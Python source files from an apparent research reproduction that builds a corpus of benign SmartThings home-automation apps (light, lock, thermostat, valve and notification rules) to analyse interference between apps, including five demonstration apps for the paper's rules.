def installed() { subscribe(presence1, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(presence1, "presence", presenceHandler) }

def presenceHandler(evt) {
    if (evt.value == "not present") {
        lock1.lock()
    }
}
''',
    ),
    CorpusApp(
        name="LetThereBeDark",
        category="switch",
        description="Turns lights off when a contact sensor closes.",
        type_hints={"contact1": "contactSensor", "lights": "light"},
        source='''
definition(name: "LetThereBeDark", namespace: "repro", author: "hg",
    description: "Turn things off when a door or window is closed")

preferences {
    input "contact1", "capability.contactSensor", title: "Which door?"
    input "lights", "capability.switch", multiple: true, title: "Turn off what?"
}

def installed() { subscribe(contact1, "contact", contactHandler) }
def updated() { unsubscribe(); subscribe(contact1, "contact", contactHandler) }

def contactHandler(evt) {
    if (evt.value == "closed") {
        lights.off()
    }
}
''',
    ),
    CorpusApp(
        name="UndeadEarlyWarning",
        category="switch",
        description="Turns on all lights when a contact opens.",
        type_hints={"contact1": "contactSensor", "lights": "light"},
        source='''
definition(name: "UndeadEarlyWarning", namespace: "repro", author: "hg",
    description: "Turn on the lights when the crypt door opens")

preferences {
    input "contact1", "capability.contactSensor", title: "Which door?"
    input "lights", "capability.switch", multiple: true
}

def installed() { subscribe(contact1, "contact.open", openHandler) }
def updated() { unsubscribe(); subscribe(contact1, "contact.open", openHandler) }

def openHandler(evt) {
    lights.on()
}
''',
    ),
    CorpusApp(
        name="LightsOffWhenClosed",
        category="switch",
        description="Turns lights off shortly after a door closes.",
        type_hints={"door1": "contactSensor", "lights": "light"},
        values={"delayMinutes": 2},
        source='''
definition(name: "LightsOffWhenClosed", namespace: "repro", author: "hg",
    description: "Turn lights off a couple of minutes after the door closes")

preferences {
    input "door1", "capability.contactSensor"
    input "lights", "capability.switch", multiple: true
    input "delayMinutes", "number", title: "After how many minutes?"
}

def installed() { subscribe(door1, "contact.closed", closedHandler) }
def updated() { unsubscribe(); subscribe(door1, "contact.closed", closedHandler) }

def closedHandler(evt) {
    runIn(delayMinutes * 60, switchOff)
}

def switchOff() {
    lights.off()
}
''',
    ),
    CorpusApp(
        name="SmartNightlight",
        category="switch",
        description="Turns lights on for motion when it is dark.",
        type_hints={"motion1": "motionSensor", "lights": "light",
                    "lightSensor": "illuminanceSensor"},
        values={"luxLevel": 50},
        source='''
definition(name: "SmartNightlight", namespace: "repro", author: "hg",
    description: "Turn on lights when there is motion in the dark")

preferences {
    input "motion1", "capability.motionSensor"
    input "lights", "capability.switch", multiple: true
    input "lightSensor", "capability.illuminanceMeasurement"
    input "luxLevel", "number", title: "Darker than (lux)?"
}

def installed() { initialize() }
def updated() { unsubscribe(); initialize() }

def initialize() {
    subscribe(motion1, "motion", motionHandler)
}

def motionHandler(evt) {
    if (evt.value == "active") {
        def lux = lightSensor.currentIlluminance
        if (lux < luxLevel) {
            lights.on()
        }
    } else if (evt.value == "inactive") {
        runIn(120, lightsOff)
    }
}

def lightsOff() {
    lights.off()
}
''',
    ),
    CorpusApp(
        name="TurnItOnFor5Minutes",
        category="switch",
        description="Turns a switch on for five minutes when a contact opens.",
        type_hints={"contact1": "contactSensor", "switch1": "light"},
        source='''
definition(name: "TurnItOnFor5Minutes", namespace: "repro", author: "hg",
    description: "When a contact opens, switch something on for 5 minutes")

preferences {
    input "contact1", "capability.contactSensor"
    input "switch1", "capability.switch"
}

def installed() { subscribe(contact1, "contact.open", openHandler) }
def updated() { unsubscribe(); subscribe(contact1, "contact.open", openHandler) }

def openHandler(evt) {
    switch1.on()
    runIn(300, turnOff)
}

def turnOff() {
    switch1.off()
}
''',
    ),
    CorpusApp(
        name="ItsTooHot",
        category="switch",
        description="Turns on the AC above a temperature threshold.",
        type_hints={"tSensor": "temperatureSensor", "ac": "airConditioner"},
        values={"tooHot": 80},
        source='''
definition(name: "ItsTooHot", namespace: "repro", author: "hg",
    description: "Turn on the air conditioner when it gets too hot")

preferences {
    input "tSensor", "capability.temperatureMeasurement"
    input "tooHot", "number", title: "Too hot above?"
    input "ac", "capability.switch", title: "Air conditioner outlet"
}

def installed() { subscribe(tSensor, "temperature", tempHandler) }
def updated() { unsubscribe(); subscribe(tSensor, "temperature", tempHandler) }

def tempHandler(evt) {
    def t = evt.value.toInteger()
    if (t > tooHot) {
        ac.on()
    }
}
''',
    ),
    CorpusApp(
        name="EnergySaver",
        category="switch",
        description="Turns devices off when electricity usage is too high.",
        type_hints={"meter": "powerMeter", "devices": "airConditioner"},
        values={"threshold": 2000},
        source='''
definition(name: "EnergySaver", namespace: "repro", author: "hg",
    description: "Turn appliances off when real-time power use exceeds a cap")

preferences {
    input "meter", "capability.powerMeter", title: "Power meter"
    input "threshold", "number", title: "Above how many watts?"
    input "devices", "capability.switch", multiple: true, title: "Turn off what?"
}

def installed() { subscribe(meter, "power", powerHandler) }
def updated() { unsubscribe(); subscribe(meter, "power", powerHandler) }

def powerHandler(evt) {
    def w = evt.value.toInteger()
    if (w > threshold) {
        devices.off()
    }
}
''',
    ),
    CorpusApp(
        name="LightUpTheNight",
        category="switch",
        description="Lights on when dark, off when bright (loop-prone).",
        type_hints={"lightSensor": "illuminanceSensor", "lights": "light"},
        values={"darkLux": 30, "brightLux": 50},
        source='''
definition(name: "LightUpTheNight", namespace: "repro", author: "hg",
    description: "Turn lights on when it gets dark and off when it is bright")

preferences {
    input "lightSensor", "capability.illuminanceMeasurement"
    input "lights", "capability.switch", multiple: true
    input "darkLux", "number", title: "On below (lux)"
    input "brightLux", "number", title: "Off above (lux)"
}

def installed() { subscribe(lightSensor, "illuminance", luxHandler) }
def updated() { unsubscribe(); subscribe(lightSensor, "illuminance", luxHandler) }

def luxHandler(evt) {
    def lux = evt.value.toInteger()
    if (lux < darkLux) {
        lights.on()
    } else if (lux > brightLux) {
        lights.off()
    }
}
''',
    ),
    CorpusApp(
        name="FeedMyPet",
        category="other",
        description="Runs the pet feeder on schedule (non-standard device type).",
        type_hints={"feeder": "petFeederShield"},
        values={"feedTime": 28800},
        source='''
definition(name: "FeedMyPet", namespace: "repro", author: "hg",
    description: "Feed the pet at the same time every day")

preferences {
    input "feeder", "device.petfeedershield", title: "Pet feeder"
    input "feedTime", "time", title: "Feed at what time?"
}

def installed() { schedule(feedTime, feedPet) }
def updated() { unschedule(); schedule(feedTime, feedPet) }

def feedPet() {
    feeder.on()
    runIn(30, stopFeeder)
}

def stopFeeder() {
    feeder.off()
}
''',
    ),
    CorpusApp(
        name="SleepyTime",
        category="mode",
        description="Changes mode when the wearable reports sleep (non-standard type).",
        type_hints={"jawbone": "jawboneUser"},
        values={"sleepMode": "Night", "wakeMode": "Home"},
        source='''
definition(name: "SleepyTime", namespace: "repro", author: "hg",
    description: "Change the mode when you fall asleep or wake up")

preferences {
    input "jawbone", "device.jawboneUser", title: "Jawbone UP"
    input "sleepMode", "mode", title: "Mode when asleep"
    input "wakeMode", "mode", title: "Mode when awake"
}

def installed() { subscribe(jawbone, "sleeping", sleepHandler) }
def updated() { unsubscribe(); subscribe(jawbone, "sleeping", sleepHandler) }

def sleepHandler(evt) {
    if (evt.value == "sleeping") {
        setLocationMode(sleepMode)
    } else {
        setLocationMode(wakeMode)
    }
}
''',
    ),
    CorpusApp(
        name="CameraPowerScheduler",
        category="switch",
        description="Cycles camera power daily using the undocumented runDaily API.",
        type_hints={"cameraOutlet": "outlet"},
        values={"onTime": 28800},
        source='''
definition(name: "CameraPowerScheduler", namespace: "repro", author: "hg",
    description: "Power-cycle the camera outlet every day")

preferences {
    input "cameraOutlet", "capability.switch", title: "Camera outlet"
    input "onTime", "time", title: "Daily restart time"
}

def installed() { runDaily(onTime, restartCamera) }
def updated() { unschedule(); runDaily(onTime, restartCamera) }

def restartCamera() {
    cameraOutlet.off()
    runIn(60, powerBack)
}

def powerBack() {
    cameraOutlet.on()
}
''',
    ),
    CorpusApp(
        name="GoodNight",
        category="mode",
        description="Sets night mode when things quiet down after a time.",
        type_hints={"motionSensors": "motionSensor"},
        values={"quietMinutes": 15, "nightMode": "Night"},
        source='''
definition(name: "GoodNight", namespace: "repro", author: "hg",
    description: "Change to night mode when motion stops late at night")

preferences {
    input "motionSensors", "capability.motionSensor", multiple: true
    input "quietMinutes", "number", title: "Minutes of quiet"
    input "nightMode", "mode", title: "Night mode"
}

def installed() { subscribe(motionSensors, "motion.inactive", quietHandler) }
def updated() { unsubscribe(); subscribe(motionSensors, "motion.inactive", quietHandler) }

def quietHandler(evt) {
    runIn(quietMinutes * 60, checkQuiet)
}

def checkQuiet() {
    if (motionSensors.currentMotion == "inactive") {
        setLocationMode(nightMode)
    }
}
''',
    ),
    CorpusApp(
        name="BrightWhenDark",
        category="switch",
        description="Opens the shades when the room is dark during daytime.",
        type_hints={"lightSensor": "illuminanceSensor", "shade1": "curtain"},
        values={"darkLux": 40},
        source='''
definition(name: "BrightWhenDark", namespace: "repro", author: "hg",
    description: "Open the curtain if the room is too dark in the daytime")

preferences {
    input "lightSensor", "capability.illuminanceMeasurement"
    input "shade1", "capability.switch", title: "Curtain switch"
    input "darkLux", "number", title: "Darker than (lux)?"
}

def installed() { subscribe(lightSensor, "illuminance", luxHandler) }
def updated() { unsubscribe(); subscribe(lightSensor, "illuminance", luxHandler) }

def luxHandler(evt) {
    def lux = evt.value.toInteger()
    if (lux < darkLux) {
        shade1.on()
    }
}
''',
    ),
    CorpusApp(
        name="KeepMeCozy",
        category="other",
        description="Adjusts thermostat setpoints from a remote sensor.",
        type_hints={"thermostat1": "thermostat", "sensor1": "temperatureSensor"},
        values={"coolingSetpoint": 74, "heatingSetpoint": 68},
        source='''
definition(name: "KeepMeCozy", namespace: "repro", author: "hg",
    description: "Works with a remote sensor to keep the room comfortable")

preferences {
    input "thermostat1", "capability.thermostat"
    input "sensor1", "capability.temperatureMeasurement"
    input "heatingSetpoint", "number", title: "Heat setting"
    input "coolingSetpoint", "number", title: "Air conditioning setting"
}

def installed() { subscribe(sensor1, "temperature", temperatureHandler) }
def updated() { unsubscribe(); subscribe(sensor1, "temperature", temperatureHandler) }

def temperatureHandler(evt) {
    def t = evt.value.toInteger()
    if (t < heatingSetpoint) {
        thermostat1.setHeatingSetpoint(heatingSetpoint)
        thermostat1.heat()
    } else if (t > coolingSetpoint) {
        thermostat1.setCoolingSetpoint(coolingSetpoint)
        thermostat1.cool()
    }
}
''',
    ),
    CorpusApp(
        name="WhenItRainsItPours",
        category="other",
        description="Closes the water valve when a leak is detected.",
        type_hints={"leak1": "waterLeakSensor", "valve1": "waterValve"},
        source='''
definition(name: "WhenItRainsItPours", namespace: "repro", author: "hg",
    description: "Shut the water valve when the leak sensor gets wet")

preferences {
    input "leak1", "capability.waterSensor", title: "Leak sensor"
    input "valve1", "capability.valve", title: "Water valve"
}

def installed() { subscribe(leak1, "water.wet", leakHandler) }
def updated() { unsubscribe(); subscribe(leak1, "water.wet", leakHandler) }

def leakHandler(evt) {
    valve1.close()
}
''',
    ),
    CorpusApp(
        name="SmokeAlarmResponder",
        category="other",
        description="Unlocks doors and flashes lights on smoke detection.",
        type_hints={"smoke1": "smokeDetector", "lock1": "doorLock",
                    "lights": "light"},
        source='''
definition(name: "SmokeAlarmResponder", namespace: "repro", author: "hg",
    description: "Unlock the exits and light the way when smoke is detected")

preferences {
    input "smoke1", "capability.smokeDetector"
    input "lock1", "capability.lock", title: "Exit lock"
    input "lights", "capability.switch", multiple: true
}

def installed() { subscribe(smoke1, "smoke", smokeHandler) }
def updated() { unsubscribe(); subscribe(smoke1, "smoke", smokeHandler) }

def smokeHandler(evt) {
    if (evt.value == "detected") {
        lock1.unlock()
        lights.on()
    }
}
''',
    ),
    CorpusApp(
        name="VacationLighting",
        category="switch",
        description="Simulates occupancy by cycling lights in Away mode.",
        type_hints={"lights": "light"},
        values={"awayMode": "Away"},
        source='''
definition(name: "VacationLighting", namespace: "repro", author: "hg",
    description: "Cycle lights while away to simulate someone being home")

preferences {
    input "lights", "capability.switch", multiple: true
    input "awayMode", "mode", title: "Simulate in which mode?"
}

def installed() { runEvery1Hour(cycleLights) }
def updated() { unschedule(); runEvery1Hour(cycleLights) }

def cycleLights() {
    if (location.mode == awayMode) {
        lights.on()
        runIn(1200, lightsOut)
    }
}

def lightsOut() {
    lights.off()
}
''',
    ),
    CorpusApp(
        name="ThermostatModeDirector",
        category="other",
        description="Switches thermostat mode based on outdoor temperature.",
        type_hints={"outdoor": "temperatureSensor", "thermostat1": "thermostat"},
        values={"coldThreshold": 50, "hotThreshold": 78},
        source='''
definition(name: "ThermostatModeDirector", namespace: "repro", author: "hg",
    description: "Change heat/cool mode from the outdoor temperature")

preferences {
    input "outdoor", "capability.temperatureMeasurement"
    input "thermostat1", "capability.thermostat"
    input "coldThreshold", "number", title: "Heat below"
    input "hotThreshold", "number", title: "Cool above"
}

def installed() { subscribe(outdoor, "temperature", tempHandler) }
def updated() { unsubscribe(); subscribe(outdoor, "temperature", tempHandler) }

def tempHandler(evt) {
    def t = evt.value.toInteger()
    if (t < coldThreshold) {
        thermostat1.heat()
    } else if (t > hotThreshold) {
        thermostat1.cool()
    } else {
        thermostat1.off()
    }
}
''',
    ),
    CorpusApp(
        name="GarageDoorMonitor",
        category="other",
        description="Closes the garage door when left open in Night mode.",
        type_hints={"garage": "garageDoor"},
        values={"openMinutes": 10, "nightMode": "Night"},
        source='''
definition(name: "GarageDoorMonitor", namespace: "repro", author: "hg",
    description: "Close the garage door if it is left open at night")

preferences {
    input "garage", "capability.garageDoorControl"
    input "openMinutes", "number", title: "Open longer than (minutes)?"
    input "nightMode", "mode", title: "Night mode"
}

def installed() { subscribe(garage, "door.open", openHandler) }
def updated() { unsubscribe(); subscribe(garage, "door.open", openHandler) }

def openHandler(evt) {
    runIn(openMinutes * 60, checkDoor)
}

def checkDoor() {
    if ((garage.currentDoor == "open") && (location.mode == nightMode)) {
        garage.close()
    }
}
''',
    ),
    CorpusApp(
        name="HumidityVentilation",
        category="switch",
        description="Runs the fan when humidity is high.",
        type_hints={"humid1": "humiditySensor", "fan1": "fan"},
        values={"humidityHigh": 65},
        source='''
definition(name: "HumidityVentilation", namespace: "repro", author: "hg",
    description: "Run the bathroom fan while humidity is above a threshold")

preferences {
    input "humid1", "capability.relativeHumidityMeasurement"
    input "fan1", "capability.switch", title: "Vent fan"
    input "humidityHigh", "number", title: "Above what humidity?"
}

def installed() { subscribe(humid1, "humidity", humidityHandler) }
def updated() { unsubscribe(); subscribe(humid1, "humidity", humidityHandler) }

def humidityHandler(evt) {
    def h = evt.value.toInteger()
    if (h > humidityHigh) {
        fan1.on()
    } else {
        fan1.off()
    }
}
''',
    ),
    CorpusApp(
        name="PresenceWelcomeHome",
        category="mode",
        description="Sets Home mode and unlocks the door on arrival.",
        type_hints={"presence1": "presenceSensor", "lock1": "doorLock"},
        values={"homeMode": "Home"},
        source='''
definition(name: "PresenceWelcomeHome", namespace: "repro", author: "hg",
    description: "Welcome home: unlock the door and set the mode on arrival")

preferences {
    input "presence1", "capability.presenceSensor"
    input "lock1", "capability.lock"
    input "homeMode", "mode", title: "Arrival mode"
}

def installed() { subscribe(presence1, "presence.present", arriveHandler) }
def updated() { unsubscribe(); subscribe(presence1, "presence.present", arriveHandler) }

def arriveHandler(evt) {
    lock1.unlock()
    setLocationMode(homeMode)
}
''',
    ),
    CorpusApp(
        name="ModeAwareHeater",
        category="switch",
        description="Runs a space heater only while the home is occupied.",
        type_hints={"heater1": "heater", "tSensor": "temperatureSensor"},
        values={"tooCold": 62, "occupiedMode": "Home"},
        source='''
definition(name: "ModeAwareHeater", namespace: "repro", author: "hg",
    description: "Run the space heater when cold, but only in Home mode")

preferences {
    input "heater1", "capability.switch", title: "Space heater"
    input "tSensor", "capability.temperatureMeasurement"
    input "tooCold", "number", title: "Heat below?"
    input "occupiedMode", "mode", title: "Only in mode"
}

def installed() { subscribe(tSensor, "temperature", tempHandler) }
def updated() { unsubscribe(); subscribe(tSensor, "temperature", tempHandler) }

def tempHandler(evt) {
    def t = evt.value.toInteger()
    if ((t < tooCold) && (location.mode == occupiedMode)) {
        heater1.on()
    } else {
        heater1.off()
    }
}
''',
    ),
    CorpusApp(
        name="ShadesOfSunset",
        category="other",
        description="Closes window shades at sunset.",
        type_hints={"shades": "windowShade"},
        source='''
definition(name: "ShadesOfSunset", namespace: "repro", author: "hg",
    description: "Close the shades when the sun goes down")

preferences {
    input "shades", "capability.windowShade", multiple: true
}

def installed() { subscribe(location, "sunset", sunsetHandler) }
def updated() { unsubscribe(); subscribe(location, "sunset", sunsetHandler) }

def sunsetHandler(evt) {
    shades.close()
}
''',
    ),
    CorpusApp(
        name="DoubleTapModeChange",
        category="mode",
        description="Switch controls mode via a switch statement.",
        type_hints={"master": "switch"},
        values={"dayMode": "Home", "nightMode": "Night"},
        source='''
definition(name: "DoubleTapModeChange", namespace: "repro", author: "hg",
    description: "Use a wall switch to change the home mode")

preferences {
    input "master", "capability.switch"
    input "dayMode", "mode", title: "Mode for on"
    input "nightMode", "mode", title: "Mode for off"
}

def installed() { subscribe(master, "switch", tapHandler) }
def updated() { unsubscribe(); subscribe(master, "switch", tapHandler) }

def tapHandler(evt) {
    switch (evt.value) {
        case "on":
            setLocationMode(dayMode)
            break
        case "off":
            setLocationMode(nightMode)
            break
        default:
            log.debug "ignored ${evt.value}"
    }
}
''',
    ),
    CorpusApp(
        name="CoffeeAfterShower",
        category="switch",
        description="Starts the coffee maker when bathroom humidity spikes.",
        type_hints={"humid1": "humiditySensor", "coffee": "coffeeMaker"},
        values={"showerHumidity": 70},
        source='''
definition(name: "CoffeeAfterShower", namespace: "repro", author: "hg",
    description: "Kick off the coffee maker when you take a shower")

preferences {
    input "humid1", "capability.relativeHumidityMeasurement"
    input "coffee", "capability.switch", title: "Coffee maker"
    input "showerHumidity", "number", title: "Humidity above?"
}

def installed() { subscribe(humid1, "humidity", showerHandler) }
def updated() { unsubscribe(); subscribe(humid1, "humidity", showerHandler) }

def showerHandler(evt) {
    def h = evt.value.toInteger()
    if (h > showerHumidity) {
        coffee.on()
        runIn(1800, coffeeOff)
    }
}

def coffeeOff() {
    coffee.off()
}
''',
    ),
    CorpusApp(
        name="MedicineReminder",
        category="switch",
        description="Flashes a light if the medicine drawer stays shut.",
        type_hints={"drawer": "contactSensor", "reminder": "light"},
        values={"checkTime": 68400},
        source='''
definition(name: "MedicineReminder", namespace: "repro", author: "hg",
    description: "Flash a light at night if the medicine drawer was not opened")

preferences {
    input "drawer", "capability.contactSensor", title: "Medicine drawer"
    input "reminder", "capability.switch", title: "Reminder light"
    input "checkTime", "time", title: "Check at what time?"
}

def installed() { initialize() }
def updated() { unsubscribe(); unschedule(); initialize() }

def initialize() {
    subscribe(drawer, "contact.open", openedHandler)
    schedule(checkTime, checkDrawer)
}

def openedHandler(evt) {
    state.opened = true
}

def checkDrawer() {
    if (!state.opened) {
        reminder.on()
    }
    state.opened = false
}
''',
    ),
]
