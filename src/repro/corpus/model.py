"""Corpus app record."""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True, slots=True)
class CorpusApp:
    """One SmartApp in the evaluation corpus.

    ``kind`` is one of ``"automation"``, ``"notification"``,
    ``"webservice"``, ``"malicious"``.  ``category`` buckets
    device-controlling apps for Fig. 8 (``"switch"`` / ``"mode"`` /
    ``"other"``).  ``type_hints`` map input names to concrete device
    types (the paper classifies `capability.switch` devices by app
    description); ``values`` are default configuration values used in
    repository-wide analysis.
    """

    name: str
    source: str
    kind: str = "automation"
    category: str = "other"
    description: str = ""
    type_hints: dict[str, str] = field(default_factory=dict)
    values: dict[str, object] = field(default_factory=dict)
    attack: str = ""               # Table III attack class, malicious apps only
    expect_extractable: bool = True  # Table III "Can handle?" column
