"""The five demonstration SmartApps of paper §V / §VIII-A.

They implement Rules 1-5 from Figures 3, 4 and 5; installed together in
one home they exhibit an Actuator Race (Rules 1+2), a Covert Triggering
(Rule 3 -> Rule 1) and a Disabling-Condition interference (Rule 5 ->
Rule 4).
"""

from __future__ import annotations

from repro.corpus.model import CorpusApp

COMFORT_TV = CorpusApp(
    name="ComfortTV",
    kind="automation",
    category="switch",
    description="Opens the window when the TV turns on and it is hot (Rule 1).",
    type_hints={"tv1": "tv", "tSensor": "temperatureSensor",
                "window1": "windowOpener"},
    values={"threshold1": 30},
    source='''
definition(name: "ComfortTV", namespace: "repro", author: "hg",
    description: "Open the window when watching TV in a hot room")

preferences {
    section("Devices") {
        input "tv1", "capability.switch", title: "Which TV?"
        input "tSensor", "capability.temperatureMeasurement"
        input "threshold1", "number", title: "Higher than?"
        input "window1", "capability.switch"
    }
}

def installed() {
    subscribe(tv1, "switch", onHandler)
}

def updated() {
    unsubscribe()
    subscribe(tv1, "switch", onHandler)
}

def onHandler(evt) {
    def t = tSensor.currentValue("temperature")
    if ((evt.value == "on") && (t > threshold1)) turnOnWindow()
}

def turnOnWindow() {
    if (window1.currentSwitch == "off")
        window1.on()
}
''',
)

COLD_DEFENDER = CorpusApp(
    name="ColdDefender",
    kind="automation",
    category="switch",
    description="Closes the window when the TV turns on and it rains (Rule 2).",
    type_hints={"tv2": "tv", "window2": "windowOpener"},
    values={"weather": "rainy"},
    source='''
definition(name: "ColdDefender", namespace: "repro", author: "hg",
    description: "Close the window when it rains while watching TV")

preferences {
    section("Devices") {
        input "tv2", "capability.switch", title: "Which TV?"
        input "weather", "enum", title: "Close when weather is?"
        input "window2", "capability.switch"
    }
}

def installed() {
    subscribe(tv2, "switch.on", rainHandler)
}

def updated() {
    unsubscribe()
    subscribe(tv2, "switch.on", rainHandler)
}

def rainHandler(evt) {
    if (weather == "rainy") {
        window2.off()
    }
}
''',
)

CATCH_LIVE_SHOW = CorpusApp(
    name="CatchLiveShow",
    kind="automation",
    category="switch",
    description="Turns on the TV when a voice message arrives (Rule 3).",
    type_hints={"voice": "speaker", "tv3": "tv"},
    values={"showDay": "Thursday"},
    source='''
definition(name: "CatchLiveShow", namespace: "repro", author: "hg",
    description: "Turn on the TV remotely when a voice message is sent home")

preferences {
    section("Devices") {
        input "voice", "capability.speechSynthesis", title: "Voice assistant"
        input "tv3", "capability.switch", title: "TV to turn on"
        input "showDay", "enum", title: "Day of the live show"
    }
}

def installed() {
    subscribe(voice, "phraseSpoken", messageHandler)
}

def updated() {
    unsubscribe()
    subscribe(voice, "phraseSpoken", messageHandler)
}

def messageHandler(evt) {
    def day = dayOfWeek()
    if (day == showDay) {
        tv3.on()
    }
}

def dayOfWeek() {
    return new Date().format("EEEE")
}
''',
)

BURGLAR_FINDER = CorpusApp(
    name="BurglarFinder",
    kind="automation",
    category="switch",
    description="Raises the alarm on midnight motion while the lamp is on (Rule 4).",
    type_hints={"lamp1": "floorLamp", "motion1": "motionSensor",
                "alarm1": "siren"},
    values={},
    source='''
definition(name: "BurglarFinder", namespace: "repro", author: "hg",
    description: "Detect break-ins at night using the floor lamp and motion")

preferences {
    section("Devices") {
        input "lamp1", "capability.switch", title: "Floor lamp"
        input "motion1", "capability.motionSensor"
        input "alarm1", "capability.alarm"
    }
}

def installed() {
    subscribe(lamp1, "switch.on", lampHandler)
}

def updated() {
    unsubscribe()
    subscribe(lamp1, "switch.on", lampHandler)
}

def lampHandler(evt) {
    runIn(600, checkBreakIn)
}

def checkBreakIn() {
    def m = motion1.currentMotion
    if ((m == "active") && (lamp1.currentSwitch == "on")) {
        alarm1.both()
    }
}
''',
)

NIGHT_CARE = CorpusApp(
    name="NightCare",
    kind="automation",
    category="switch",
    description="Turns the floor lamp off 5 minutes after it turns on in sleep mode (Rule 5).",
    type_hints={"lamp2": "floorLamp"},
    values={},
    source='''
definition(name: "NightCare", namespace: "repro", author: "hg",
    description: "Save energy: turn the floor lamp off while the home sleeps")

preferences {
    section("Devices") {
        input "lamp2", "capability.switch", title: "Floor lamp"
    }
}

def installed() {
    subscribe(lamp2, "switch.on", lampOnHandler)
}

def updated() {
    unsubscribe()
    subscribe(lamp2, "switch.on", lampOnHandler)
}

def lampOnHandler(evt) {
    if (location.mode == "sleep") {
        runIn(300, turnOffLamp)
    }
}

def turnOffLamp() {
    lamp2.off()
}
''',
)

DEMO_APPS: list[CorpusApp] = [
    COMFORT_TV,
    COLD_DEFENDER,
    CATCH_LIVE_SHOW,
    BURGLAR_FINDER,
    NIGHT_CARE,
]
