"""Notification-only SmartApps (56 of the paper's 146 automation apps).

These apps subscribe to sensor events and only send SMS/push
notifications — they control no devices, so the paper excludes them from
the 90-app CAI study (§VIII-B) while they still count toward rule
extraction coverage.
"""

from __future__ import annotations

from repro.corpus.model import CorpusApp

_NOTIFY_VARIANTS = [
    # (name, sensor cap, sensor type, attribute, value-or-None, threshold-or-None, channel)
    ("NotifyDoorOpen", "capability.contactSensor", "contactSensor",
     "contact", "open", None, "push"),
    ("NotifyDoorLeftOpen", "capability.contactSensor", "contactSensor",
     "contact", "open", None, "sms"),
    ("NotifyWindowOpen", "capability.contactSensor", "contactSensor",
     "contact", "open", None, "push"),
    ("NotifyGarageOpen", "capability.garageDoorControl", "garageDoor",
     "door", "open", None, "sms"),
    ("NotifyFrontDoorUnlock", "capability.lock", "doorLock",
     "lock", "unlocked", None, "push"),
    ("NotifyDoorLocked", "capability.lock", "doorLock",
     "lock", "locked", None, "push"),
    ("NotifyMotionAtNight", "capability.motionSensor", "motionSensor",
     "motion", "active", None, "sms"),
    ("NotifyBackyardMotion", "capability.motionSensor", "motionSensor",
     "motion", "active", None, "push"),
    ("NotifySomeoneArrives", "capability.presenceSensor", "presenceSensor",
     "presence", "present", None, "push"),
    ("NotifyEveryoneGone", "capability.presenceSensor", "presenceSensor",
     "presence", "not present", None, "sms"),
    ("NotifyKidsHome", "capability.presenceSensor", "presenceSensor",
     "presence", "present", None, "sms"),
    ("NotifySmokeDetected", "capability.smokeDetector", "smokeDetector",
     "smoke", "detected", None, "sms"),
    ("NotifyCOAlarm", "capability.carbonMonoxideDetector", "smokeDetector",
     "carbonMonoxide", "detected", None, "sms"),
    ("NotifyWaterLeak", "capability.waterSensor", "waterLeakSensor",
     "water", "wet", None, "sms"),
    ("NotifyBasementFlood", "capability.waterSensor", "waterLeakSensor",
     "water", "wet", None, "push"),
    ("NotifySwitchLeftOn", "capability.switch", "switch",
     "switch", "on", None, "push"),
    ("NotifyApplianceOff", "capability.switch", "outlet",
     "switch", "off", None, "push"),
    ("NotifyButtonPressed", "capability.button", "button",
     "button", "pushed", None, "push"),
    ("NotifyPanicButton", "capability.button", "button",
     "button", "held", None, "sms"),
    ("NotifySleepTracking", "capability.sleepSensor", "sleepSensor",
     "sleeping", "sleeping", None, "push"),
    ("NotifyTooCold", "capability.temperatureMeasurement", "temperatureSensor",
     "temperature", None, ("<", 40), "sms"),
    ("NotifyTooHot", "capability.temperatureMeasurement", "temperatureSensor",
     "temperature", None, (">", 90), "sms"),
    ("NotifyFreezerWarm", "capability.temperatureMeasurement", "temperatureSensor",
     "temperature", None, (">", 20), "sms"),
    ("NotifyNurseryChill", "capability.temperatureMeasurement", "temperatureSensor",
     "temperature", None, ("<", 65), "push"),
    ("NotifyHumidityHigh", "capability.relativeHumidityMeasurement", "humiditySensor",
     "humidity", None, (">", 70), "push"),
    ("NotifyHumidityLow", "capability.relativeHumidityMeasurement", "humiditySensor",
     "humidity", None, ("<", 25), "push"),
    ("NotifyPowerSpike", "capability.powerMeter", "powerMeter",
     "power", None, (">", 5000), "sms"),
    ("NotifyDryerDone", "capability.powerMeter", "powerMeter",
     "power", None, ("<", 10), "push"),
    ("NotifyEnergyBudget", "capability.energyMeter", "energyMeter",
     "energy", None, (">", 30), "push"),
    ("NotifyLoudNoise", "capability.soundPressureLevel", "soundSensor",
     "soundPressureLevel", None, (">", 85), "push"),
    ("NotifyCO2High", "capability.carbonDioxideMeasurement", "co2Sensor",
     "carbonDioxide", None, (">", 1200), "push"),
    ("NotifyBrightSun", "capability.illuminanceMeasurement", "illuminanceSensor",
     "illuminance", None, (">", 5000), "push"),
    ("NotifyAccelShake", "capability.accelerationSensor", "multipurposeSensor",
     "acceleration", "active", None, "push"),
    ("NotifyTamper", "capability.tamperAlert", "motionSensor",
     "tamper", "detected", None, "sms"),
    ("NotifyValveOpened", "capability.valve", "waterValve",
     "valve", "open", None, "push"),
    ("NotifyShadeOpened", "capability.windowShade", "windowShade",
     "windowShade", "open", None, "push"),
    ("NotifySirenFired", "capability.alarm", "siren",
     "alarm", "siren", None, "sms"),
    ("NotifyThermostatHeat", "capability.thermostat", "thermostat",
     "thermostatMode", "heat", None, "push"),
    ("NotifyUVHigh", "capability.ultravioletIndex", "illuminanceSensor",
     "ultravioletIndex", None, (">", 8), "push"),
]

_DIGEST_VARIANTS = [
    ("DailyBatteryDigest", "runEvery3Hours", "battery check"),
    ("HourlyHubPing", "runEvery1Hour", "hub heartbeat"),
    ("WeeklyValveReminder", "schedule", "exercise the water valve"),
    ("MorningWeatherBrief", "schedule", "weather briefing"),
    ("EveningDoorsDigest", "schedule", "doors and locks digest"),
    ("QuarterHourPresence", "runEvery15Minutes", "presence roll call"),
]

_MODE_NOTIFY_VARIANTS = [
    ("NotifyModeChange", None),
    ("NotifyAwaySet", "Away"),
    ("NotifyNightSet", "Night"),
    ("NotifyHomeSet", "Home"),
]


def _event_notify_app(
    name: str,
    sensor_cap: str,
    sensor_type: str,
    attribute: str,
    value: str | None,
    threshold: tuple[str, int] | None,
    channel: str,
) -> CorpusApp:
    phone_input = (
        '\n    input "phone1", "phone", title: "Phone number"'
        if channel == "sms"
        else ""
    )
    send = (
        'sendSms(phone1, msg)' if channel == "sms" else 'sendPush(msg)'
    )
    if value is not None:
        subscribe = f'subscribe(sensor1, "{attribute}.{value}", eventHandler)'
        body = f'''    def msg = "${{sensor1.displayName}} reported {attribute} {value}"
    {send}'''
        values: dict[str, object] = {}
    else:
        assert threshold is not None
